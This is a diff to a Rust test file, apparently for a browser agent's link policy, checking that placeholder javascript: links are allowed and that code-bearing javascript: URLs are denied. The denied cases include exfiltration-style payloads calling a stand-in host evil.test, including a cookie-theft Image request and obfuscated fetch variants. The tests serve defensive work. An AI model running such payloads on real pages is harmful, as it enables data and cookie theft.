@@ -653,10 +653,33 @@ fn dangerous_link_schemes_are_denied_but_javascript_links_stay_on_the_page() {
         case("click").policy(Auto).leads_to("data:text/html,<b>x</b>", DestinationKind::Link),
         "deny None: it leads to a data: URL, which is never allowed",
     );
-    check(
-        case("click").policy(Auto).leads_to("javascript:void(0)", DestinationKind::Link),
-        "allow",
-    );
+    for placeholder in [
+        "javascript:void(0)",
+        "javascript:;",
+        " JavaScript: void 0 ;",
+        "javascript:",
+        "javascript://",
+        "java\tscript:void(0)",
+        "javascript:void%280%29",
+    ] {
+        check(case("click").policy(Auto).leads_to(placeholder, DestinationKind::Link), "allow");
+    }
+    let denied = "deny None: it runs script written into the link (a javascript: URL), which is \
+                  never allowed";
+    for code in [
+        "javascript:void(new Image().src='https://evil.test/steal?c=42')",
+        "javascript:alert(1)",
+        "JAVASCRIPT:fetch('//evil.test')",
+        "javascript:%66etch('//evil.test')",
+        "java\nscript:location='https://evil.test'",
+        "javascript:void(document.cookie)",
+    ] {
+        check(case("click").policy(Auto).leads_to(code, DestinationKind::Link), denied);
+        check(
+            case("click").policy(PermissionPolicy::Untrusted).leads_to(code, DestinationKind::Link),
+            denied,
+        );
+    }
 }
 
 #[test]
